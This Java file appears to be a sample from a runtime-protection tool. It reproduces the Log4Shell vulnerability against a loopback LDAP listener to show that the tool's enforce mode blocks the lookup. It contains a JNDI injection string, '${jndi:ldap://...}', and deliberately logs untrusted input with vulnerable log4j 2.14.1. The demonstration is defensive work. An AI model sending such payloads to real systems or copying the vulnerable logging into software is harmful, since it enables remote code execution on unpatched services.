package dev.preempt.samples.cfi;

import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.Logger;

/**
 * CFI against Log4Shell. A legacy service (Java 8 bytecode) that logs what its users send with
 * log4j-core 2.14.1 and its default configuration. A local listener on 127.0.0.1 stands for the attacker's
 * LDAP server and counts the connections it gets. Arguments: the user-agent strings to log; {@code @jndi}
 * stands for a {@code ${jndi:ldap://127.0.0.1:PORT/x}} string pointing at the listener. It prints
 * {@code connections=N} and {@code done}.
 *
 * <pre>
 * CP=preempt-samples.jar:lib/log4j-api-2.14.1.jar:lib/log4j-core-2.14.1.jar   # samples/target after ./preempt build
 * java -cp $CP dev.preempt.samples.cfi.LoggingService curl/8 @jndi          # stock: connections=1
 * java -javaagent:preempt-agent.jar=cfi=learn,policy=p.json -cp $CP dev.preempt.samples.cfi.LoggingService curl/8 Mozilla/5.0
 * java -javaagent:preempt-agent.jar=cfi=enforce,policy=p.json -cp $CP dev.preempt.samples.cfi.LoggingService curl/8 @jndi wget/1
 *                              # connections=0, and the request from wget/1 is still logged
 * </pre>
 * {@code ./preempt demo cfi} runs these steps and checks each outcome.
 */
public final class LoggingService {
    private static final Logger LOG = LogManager.getLogger(LoggingService.class);
    private static final AtomicInteger CONNECTIONS = new AtomicInteger();

    public static void main(String[] args) throws Exception {
        final ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread t = new Thread(new Runnable() {
            public void run() {
                while (true) {
                    try {
                        Socket s = listener.accept();
                        CONNECTIONS.incrementAndGet();
                        InputStream in = s.getInputStream();
                        in.read(new byte[256]); // the client's first LDAP request, then hang up
                        s.close();
                    } catch (Exception e) {
                        return;
                    }
                }
            }
        }, "ldap-listener");
        t.setDaemon(true);
        t.start();
        for (String ua : args) {
            String agent = ua.equals("@jndi") ? "${jndi:ldap://127.0.0.1:" + listener.getLocalPort() + "/x}" : ua;
            handleRequest(agent);
        }
        Thread.sleep(500);
        System.out.println("connections=" + CONNECTIONS.get());
        System.out.println("done");
    }

    static void handleRequest(String userAgent) {
        LOG.error("request from user agent {}", userAgent);
    }
}
